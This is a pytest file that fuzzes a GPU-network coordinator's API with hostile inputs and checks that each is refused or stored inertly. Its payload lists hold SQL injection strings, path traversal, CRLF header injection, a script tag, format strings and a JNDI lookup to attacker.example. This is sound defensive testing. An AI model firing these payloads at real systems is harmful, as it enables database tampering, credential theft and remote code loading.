"""Hostile input on every field, path and query parameter and header (T4).

Each target is one field of one endpoint; the whole corpus is thrown at it. For every
payload the coordinator must answer with a 4xx and change no row, or accept it (2xx)
and store it inertly: the value reads back byte-identical and only the rows that this
request is allowed to touch changed. Never a 5xx.
"""

from __future__ import annotations

import copy
import hashlib
import json
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from typing import Any
from urllib.parse import quote

import pytest
from cryptography.hazmat.primitives.asymmetric.ed25519 import Ed25519PrivateKey
from fastapi.testclient import TestClient
from pydantic import ValidationError
from sqlalchemy import select

from gpunet.core import signing
from gpunet.core.clock import FrozenClock, unix
from gpunet.core.models import HardwareClaim
from gpunet.server.app import create_app
from gpunet.server.db.engine import Database
from gpunet.server.db.tables import Device, Owner
from tests.integration.conftest import DeviceHandle, Net, OwnerHandle, hardware, make_settings
from tests.integration.snapshot import Snapshot, describe, diff, snapshot


def _nested(depth: int) -> Any:
    value: Any = "x"
    for _ in range(depth):
        value = {"a": [value]}
    return value


SQL = [
    "' OR 1=1 --",
    "'; DROP TABLE devices; --",
    '" OR ""="',
    "admin'--",
    "' UNION SELECT email, password_hash FROM owners --",
    "1; SELECT pg_sleep(10)",
    "%' OR '%'='",
    "\\'; DELETE FROM owners; --",
    # Valid under most patterns, so they must be stored and read back as they are.
    "1 OR 1 = 1",
    "x -- DROP TABLE owners",
    "1.0-DROP-TABLE",
]
UNICODE = [
    "\u03a9mega \u2603 \U0001d518\U0001d52b",  # Greek, a snowman, Fraktur
    "\u202egnp.exe",  # right-to-left override
    "e\u0301",  # combining accent
    "\uff21\uff24\uff2d\uff29\uff2e",  # full-width ADMIN
    "\ud7ff\ue000",
]
NUL = ["abc\x00def", "\x00", "\x00' OR 1=1 --"]
BIG = ["A" * 10_000, "B" * 1_000_000]
TRAVERSAL = ["../../etc/passwd", "..%2f..%2fetc%2fpasswd", "/dev/null", "C:\\Windows\\win.ini"]
CRLF = ["x\r\nSet-Cookie: pwned=1", "x\r\n\r\n<script>alert(1)</script>", "%0d%0aX-Pwned: 1"]
FORMAT = ["%s%s%s%n", "{0.__class__.__mro__}", "${jndi:ldap://attacker.example/a}"]
STRINGS: list[Any] = SQL + UNICODE + NUL + BIG + TRAVERSAL + CRLF + FORMAT
NON_STRINGS: list[Any] = [
    0,
    -1,
    2**31,
    2**63,
    -(2**63) - 1,
    10**100,
    1.5,
    float("1e308"),
    True,
    None,
    [],
    ["' OR 1=1 --"],
    {"$ne": None},
    {"$gt": ""},
    _nested(64),
]
CORPUS: list[Any] = STRINGS + NON_STRINGS
# Path and query parameters are text on the wire.
TEXT_CORPUS: list[str] = [s for s in STRINGS if len(s) <= 10_000] + [
    "0",
    "-1",
    str(2**64),
    "1e308",
    "null",
    "[]",
    "{}",
    "%00",
    "dev_aaaaaaaaaaaaaaa'",
    "dev_aaaaaaaaaaaaaaaa' OR '1'='1",
]

PASSWORD = "a good long password"
LIMITS = {
    "address_writes_per_window": 1_000_000,
    "address_logins_per_window": 1_000_000,
    "address_enrollments_per_window": 1_000_000,
    "principal_writes_per_window": 1_000_000,
    "surge_principal_writes": 1_000_000,
}


@pytest.fixture
def inet(database: Database, database_url: str, clock: FrozenClock) -> Iterator[Net]:
    """A coordinator whose rate limits stay out of the way of a few hundred requests."""
    settings = make_settings(database_url, **LIMITS)
    app = create_app(settings, database=database, clock=clock)
    with TestClient(app) as client:
        yield Net(client, clock, database, settings)


@dataclass
class World:
    net: Net
    a: OwnerHandle
    dev_a: DeviceHandle
    b: OwnerHandle
    dev_b: DeviceHandle
    state: dict[str, Any] = field(default_factory=dict)


def build(net: Net) -> World:
    a = net.register("victim-a@example.com", PASSWORD)
    b = net.register("bystander-b@example.com", PASSWORD)
    (dev_a,) = net.enroll(a, 1)
    (dev_b,) = net.enroll(b, 1)
    return World(net, a, dev_a, b, dev_b)


def device_row(w: World, public_id: str) -> dict[str, Any]:
    with w.net.database.read() as s:
        d = s.execute(select(Device).where(Device.public_id == public_id)).scalar_one()
        return {c.name: getattr(d, c.name) for c in Device.__table__.columns}


def owner_row(w: World, email: str) -> dict[str, Any] | None:
    with w.net.database.read() as s:
        o = s.execute(select(Owner).where(Owner.email == email)).scalar_one_or_none()
        return None if o is None else {c.name: getattr(o, c.name) for c in Owner.__table__.columns}


# --- how each target sends a payload and reads an accepted one back ---------------------

Send = Callable[[World, Any], Any]
ReadBack = Callable[[World, Any], None]  # asserts the accepted payload was stored exactly


@dataclass(frozen=True)
class Target:
    send: Send
    corpus: list[Any]
    # Tables (and, for changed rows, columns) an accepted payload may change.
    allowed: dict[str, frozenset[str] | None]
    read_back: ReadBack | None = None  # None: this target must never accept hostile input
    read_only: bool = False
    prepare: Callable[[World, Any], None] | None = None  # row changes before the snapshot


def owner_patch_device(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.patch(
            f"/api/v1/devices/{w.dev_a.device_id}", json={fieldname: v}, headers=w.a.headers
        )

    def read_back(w: World, v: Any) -> None:
        assert device_row(w, w.dev_a.device_id)[fieldname] == v
        got = w.net.client.get(f"/api/v1/devices/{w.dev_a.device_id}", headers=w.a.headers)
        assert got.json()[fieldname] == v

    return Target(send, CORPUS, {"devices": frozenset({fieldname, "updated_at"})}, read_back)


def signed(w: World, dev: DeviceHandle, method: str, path: str, body: Any) -> Any:
    raw = json.dumps(body).encode()
    auth = dev.signer.authorization(method, path, raw, unix(w.net.clock.now()))
    return w.net.client.request(
        method,
        path,
        content=raw,
        headers={"Authorization": auth, "Content-Type": "application/json"},
    )


def worker_metadata(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        return signed(w, w.dev_a, "PATCH", "/api/v1/worker/device", {fieldname: v})

    def read_back(w: World, v: Any) -> None:
        assert device_row(w, w.dev_a.device_id)[fieldname] == v

    return Target(send, CORPUS, {"devices": frozenset({fieldname, "updated_at"})}, read_back)


def account_patch(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.patch("/api/v1/account", json={fieldname: v}, headers=w.a.headers)

    def read_back(w: World, v: Any) -> None:
        row = owner_row(w, w.a.email)
        assert row is not None and row[fieldname] == v
        assert w.net.client.get("/api/v1/account", headers=w.a.headers).json()[fieldname] == v

    return Target(send, CORPUS, {"owners": frozenset({fieldname})}, read_back)


def register(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        n = w.state["n"] = w.state.get("n", 0) + 1
        body = {"email": f"new{n}@example.com", "password": PASSWORD, fieldname: v}
        w.state["last"] = body
        return w.net.client.post("/api/v1/accounts", json=body)

    def read_back(w: World, v: Any) -> None:
        body = w.state["last"]
        email = body["email"].lower()
        row = owner_row(w, email)
        assert row is not None, "accepted, but no account under that e-mail"
        if fieldname == "display_name":
            assert row["display_name"] == v
        r = w.net.client.post(
            "/api/v1/auth/token", json={"email": body["email"], "password": body["password"]}
        )
        assert r.status_code == 200, "the stored password is not the one sent"

    return Target(send, CORPUS, {"owners": None}, read_back)


def login(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        body = {"email": w.a.email, "password": PASSWORD, fieldname: v}
        return w.net.client.post("/api/v1/auth/token", json=body)

    return Target(send, CORPUS, {})


def login_scope() -> Target:
    def send(w: World, v: Any) -> Any:
        body = {"email": w.a.email, "password": PASSWORD, "scopes": [v]}
        return w.net.client.post("/api/v1/auth/token", json=body)

    return Target(send, CORPUS, {})


def refresh() -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.post("/api/v1/auth/refresh", json={"refresh_token": v})

    return Target(send, CORPUS, {})


def password_change(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        body = {"current_password": w.state.get("pw", PASSWORD), "new_password": "x" * 12}
        body[fieldname] = v
        w.state["sent"] = body
        return w.net.client.post("/api/v1/account/password", json=body, headers=w.a.headers)

    def read_back(w: World, v: Any) -> None:
        assert fieldname == "new_password", "a hostile current password was accepted"
        w.state["pw"] = v
        r = w.net.client.post("/api/v1/auth/token", json={"email": w.a.email, "password": v})
        assert r.status_code == 200, "the stored password is not the one sent"

    return Target(
        send,
        CORPUS,
        {"owners": frozenset({"password_hash"}), "auth_sessions": frozenset({"revoked_at"})},
        read_back,
    )


def enrollment_code() -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.post(
            "/api/v1/enrollment-codes", json={"max_devices": v}, headers=w.a.headers
        )

    def read_back(w: World, v: Any) -> None:
        raise AssertionError(f"max_devices {v!r} accepted")

    return Target(send, CORPUS, {}, read_back)


def _enroll_body(w: World, mutate: Callable[[dict[str, Any]], None]) -> dict[str, Any]:
    """A correctly signed enrollment of one fresh GPU, with one field replaced."""
    code = w.net.code(w.a)
    key = Ed25519PrivateKey.generate()
    hw = json.loads(hardware(host="inject-host-fingerprint").model_dump_json())
    device: dict[str, Any] = {
        "public_key": signing.public_key_text(key.public_key()),
        "hardware": hw,
    }
    body: dict[str, Any] = {"code": code, "devices": [device]}
    mutate(body)
    try:
        claim_json = HardwareClaim.model_validate(device["hardware"]).model_dump_json().encode()
    except (ValidationError, TypeError):
        claim_json = b"{}"
    pub = device["public_key"] if isinstance(device["public_key"], str) else ""
    msg = signing.enrollment_message(
        code_digest=hashlib.sha256(str(body["code"]).encode()).digest(),
        public_key=pub,
        claim_json=claim_json,
    )
    device.setdefault("proof", signing.b64u(key.sign(msg)))
    return body


def enroll(path: tuple[str, ...]) -> Target:
    def mutate(v: Any) -> Callable[[dict[str, Any]], None]:
        def go(body: dict[str, Any]) -> None:
            node: Any = body
            for p in path[:-1]:
                node = node["devices"][0] if p == "device" else node[p]
            node[path[-1]] = v

        return go

    def send(w: World, v: Any) -> Any:
        # Codes are made before the snapshot; see `prepare`.
        return w.net.client.post("/api/v1/enroll", json=w.state.pop("body"))

    def prepare(w: World, v: Any) -> None:
        w.state["body"] = _enroll_body(w, mutate(copy.deepcopy(v)))

    def read_back(w: World, v: Any) -> None:
        if path == ("device", "replaces") and v is None:
            return  # null means "replaces nothing": a plain enrollment
        assert path[:2] == ("device", "hardware"), f"{path} accepted {v!r}"
        rows = [
            r
            for r in (device_row(w, d["device_id"]) for d in w.state["accepted"])
            if r[path[-1]] == v
        ]
        assert rows, "accepted, but not stored as sent"

    return Target(
        send,
        CORPUS,
        {"devices": None, "enrollment_codes": frozenset({"used_at"}), "device_events": None},
        read_back,
        prepare=prepare,
    )


def rotate(fieldname: str) -> Target:
    def send(w: World, v: Any) -> Any:
        new = Ed25519PrivateKey.generate()
        pub = signing.public_key_text(new.public_key())
        ts = unix(w.net.clock.now())
        msg = signing.rotation_message(
            device_id=w.dev_a.device_id, new_public_key=pub, timestamp=ts
        )
        body: dict[str, Any] = {
            "new_public_key": pub,
            "timestamp": ts,
            "old_key_signature": signing.b64u(w.dev_a.key.sign(msg)),
            "new_key_signature": signing.b64u(new.sign(msg)),
        }
        body[fieldname] = v
        return signed(w, w.dev_a, "POST", "/api/v1/worker/device/rotate-key", body)

    return Target(send, CORPUS, {})


def path_param(template: str, auth: str | None) -> Target:
    def send(w: World, v: Any) -> Any:
        headers = w.a.headers if auth == "owner" else {}
        return w.net.client.get(template.format(quote(str(v), safe="")), headers=headers)

    return Target(send, TEXT_CORPUS, {}, read_only=True)


def owner_patch_path() -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.patch(
            f"/api/v1/devices/{quote(str(v), safe='')}", json={"label": "ok"}, headers=w.a.headers
        )

    return Target(send, TEXT_CORPUS, {})


def owner_retire_path() -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.post(
            f"/api/v1/devices/{quote(str(v), safe='')}/retire", headers=w.a.headers
        )

    return Target(send, TEXT_CORPUS, {})


def query(path: str, name: str, auth: str | None = None) -> Target:
    def send(w: World, v: Any) -> Any:
        headers = w.a.headers if auth == "owner" else {}
        return w.net.client.get(path, params={name: v}, headers=headers)

    return Target(send, TEXT_CORPUS, {}, read_only=True)


def header(name: str, make: Callable[[World, str], str]) -> Target:
    def send(w: World, v: Any) -> Any:
        return w.net.client.patch(
            f"/api/v1/devices/{w.dev_a.device_id}",
            json={"label": "header test"},
            # Header values are bytes on the wire: send non-ASCII as raw UTF-8.
            headers={name: make(w, v).encode()},
        )

    return Target(send, [s for s in STRINGS if len(s) <= 10_000], {})


def _device_header(w: World, v: str) -> str:
    return f"GPUNet-Device id={v},ts={unix(w.net.clock.now())},nonce={'0' * 32},sig={'A' * 86}"


TARGETS: dict[str, Target] = {
    "owner_device.label": owner_patch_device("label"),
    "owner_device.region": owner_patch_device("region"),
    "owner_device.path_id": owner_patch_path(),
    "owner_device.get_path_id": path_param("/api/v1/devices/{}", "owner"),
    "owner_device.retire_path_id": owner_retire_path(),
    "owner_devices.cursor": query("/api/v1/devices", "cursor", "owner"),
    "owner_devices.limit": query("/api/v1/devices", "limit", "owner"),
    "worker.agent_version": worker_metadata("agent_version"),
    "worker.driver_version": worker_metadata("driver_version"),
    "worker.cuda_version": worker_metadata("cuda_version"),
    "worker.os_name": worker_metadata("os_name"),
    "worker.rotate.new_public_key": rotate("new_public_key"),
    "worker.rotate.timestamp": rotate("timestamp"),
    "worker.rotate.old_key_signature": rotate("old_key_signature"),
    "worker.rotate.new_key_signature": rotate("new_key_signature"),
    "account.display_name": account_patch("display_name"),
    "account.wallet_address": account_patch("wallet_address"),
    "account.password.current": password_change("current_password"),
    "account.password.new": password_change("new_password"),
    "register.email": register("email"),
    "register.password": register("password"),
    "register.display_name": register("display_name"),
    "auth.token.email": login("email"),
    "auth.token.password": login("password"),
    "auth.token.scopes": login_scope(),
    "auth.refresh.refresh_token": refresh(),
    "enrollment_codes.max_devices": enrollment_code(),
    "enroll.code": enroll(("code",)),
    "enroll.public_key": enroll(("device", "public_key")),
    "enroll.proof": enroll(("device", "proof")),
    "enroll.replaces": enroll(("device", "replaces")),
    **{
        f"enroll.hardware.{f}": enroll(("device", "hardware", f))
        for f in HardwareClaim.model_fields
    },
    "explorer.devices.status": query("/api/v1/explorer/devices", "status"),
    "explorer.devices.model": query("/api/v1/explorer/devices", "model"),
    "explorer.devices.region": query("/api/v1/explorer/devices", "region"),
    "explorer.devices.limit": query("/api/v1/explorer/devices", "limit"),
    "explorer.devices.cursor": query("/api/v1/explorer/devices", "cursor"),
    "explorer.device.path_id": path_param("/api/v1/explorer/devices/{}", None),
    "header.authorization.bearer": header("Authorization", lambda w, v: f"Bearer {v}"),
    "header.authorization.device_id": header("Authorization", _device_header),
    "header.x_forwarded_for": header("X-Forwarded-For", lambda w, v: v),
    "header.content_type": header("Content-Type", lambda w, v: v),
}


def check_accepted(target: Target, before: Snapshot, after: Snapshot, w: World) -> None:
    changes = diff(before, after)
    for name, d in changes.items():
        if name in ("audit_log", "audit_head"):
            assert not d.removed and (name == "audit_head" or not d.changed), name
            continue
        assert name in target.allowed, f"{name} changed: {describe(changes)}"
        assert not d.removed, f"rows removed from {name}"
        cols = target.allowed[name]
        if cols is not None:
            assert not d.added, f"rows added to {name}"
            for key, changed in d.changed.items():
                assert set(changed) <= cols, f"{name}{key}: {sorted(changed)}"
                if name == "devices":
                    assert after["devices"][key]["public_id"] == w.dev_a.device_id
                if name in ("owners", "auth_sessions"):
                    owner = after[name][key].get("owner_id", after[name][key].get("id"))
                    assert owner == after["owners"][_owner_key(after, w.a.email)]["id"]


def _owner_key(snap: Snapshot, email: str) -> Any:
    return next(k for k, r in snap["owners"].items() if r["email"] == email)


@pytest.mark.parametrize("name", list(TARGETS))
def test_hostile_input_is_refused_or_stored_inertly(inet: Net, name: str) -> None:
    w = build(inet)
    target = TARGETS[name]
    prepare = target.prepare
    start = snapshot(inet.database) if target.read_only else None
    before: Snapshot | None = None
    for value in target.corpus:
        what = f"{name} <- {value!r:.80}"
        if prepare is not None:
            prepare(w, value)
        if not target.read_only and (before is None or prepare is not None):
            before = snapshot(inet.database)
        r = target.send(w, value)
        assert r.status_code < 500, f"{what}: {r.status_code} {r.text[:300]}"
        assert "pwned" not in {k.lower() for k in r.headers}, what
        assert "set-cookie" not in {k.lower() for k in r.headers}, what
        if target.read_only:
            assert r.status_code in (200, 400, 404, 413, 422), what
            continue
        after = snapshot(inet.database)
        assert before is not None
        if r.status_code >= 300:
            assert 400 <= r.status_code < 500, what
            assert not diff(before, after), f"{what}: {describe(diff(before, after))}"
            before = after  # nothing changed: the next payload starts from the same rows
            continue
        assert target.read_back is not None, f"{what}: accepted ({r.status_code})"
        if name.startswith("enroll."):
            w.state["accepted"] = r.json()["devices"]
        target.read_back(w, value)
        check_accepted(target, before, after, w)
        before = None
    if start is not None:
        assert not diff(start, snapshot(inet.database)), name


def test_inert_values_really_are_stored(inet: Net) -> None:
    """The corpus holds SQL-looking values that are valid: they must be accepted and
    stored as they are, not just refused (so the test above cannot pass by refusing
    everything)."""
    w = build(inet)
    for value in ("OR 1 -- 1", "x -- DROP TABLE owners"):
        r = inet.client.patch(
            f"/api/v1/devices/{w.dev_a.device_id}", json={"label": value}, headers=w.a.headers
        )
        assert r.status_code == 200, r.text
        assert device_row(w, w.dev_a.device_id)["label"] == value
    r = signed(w, w.dev_a, "PATCH", "/api/v1/worker/device", {"agent_version": "1.0-DROP-TABLE"})
    assert r.status_code == 200, r.text
    assert device_row(w, w.dev_a.device_id)["agent_version"] == "1.0-DROP-TABLE"
    # The bystander's device and every table still exist.
    assert device_row(w, w.dev_b.device_id)["label"] is None
    assert inet.client.get("/api/v1/explorer/stats").json()["devices_by_status"]["pending"] == 2
